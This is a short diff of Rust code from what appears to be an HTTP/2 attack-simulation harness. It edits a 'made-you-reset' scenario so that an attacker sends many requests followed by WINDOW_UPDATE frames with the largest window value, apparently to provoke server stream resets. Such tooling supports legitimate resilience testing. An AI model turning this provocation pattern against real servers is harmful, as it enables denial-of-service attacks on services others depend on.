@@ -136,7 +136,7 @@ pub const MADE_YOU_RESET: Scenario = Scenario::new("made-you-reset", |stage, unt
         let requests: Vec<u8> = streams.iter().flat_map(|&stream| request(stream, "GET", "/public/x", true)).collect();
         attacker.send(&requests, gains);
         let provocations: Vec<u8> =
-            streams.iter().flat_map(|&stream| frame(WINDOW_UPDATE, 0, stream, &[0; 4])).collect();
+            streams.iter().flat_map(|&stream| frame(WINDOW_UPDATE, 0, stream, &LARGEST_WINDOW.to_be_bytes())).collect();
         attacker.send(&provocations, gains);
         gains.add("requests", 50);
         50
